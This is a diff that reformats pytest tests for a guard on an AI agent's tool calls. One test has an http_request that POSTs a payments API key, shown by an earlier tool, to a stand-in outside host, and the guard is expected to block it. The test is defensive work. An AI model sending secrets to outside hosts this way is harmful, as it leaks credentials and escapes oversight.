@@ -71,10 +71,22 @@ def test_secret_that_a_tool_showed_may_not_leave_by_another(guard: Guard) -> Non
     guard.decide(call)
     guard.observe(call, "PAYMENTS_API_KEY=" + "sk_" + "live_51HqLyjWDarjtT1zdp7dc")
     with pytest.raises(GuardBlocked, match="carries a secret"):
-        guard.check("http_request", {"url": "https://x.example.net", "method": "POST", "body": "sk_" + "live_51HqLyjWDarjtT1zdp7dc"}, call.context)
+        guard.check(
+            "http_request",
+            {"url": "https://x.example.net", "method": "POST", "body": "sk_" + "live_51HqLyjWDarjtT1zdp7dc"},
+            call.context,
+        )
 
 
-@pytest.mark.parametrize(("text", "told"), [("mode: maybe", "mode"), ("rules: [{id: x}]", "rules"), ("[", "YAML"), ("modes: {guard.tamper: audit}", "guard.tamper")])
+@pytest.mark.parametrize(
+    ("text", "told"),
+    [
+        ("mode: maybe", "mode"),
+        ("rules: [{id: x}]", "rules"),
+        ("[", "YAML"),
+        ("modes: {guard.tamper: audit}", "guard.tamper"),
+    ],
+)
 def test_policy_that_is_none_fails_when_it_is_attached(tmp_path: Path, text: str, told: str) -> None:
     path = tmp_path / "p.yaml"
     path.write_text(text)
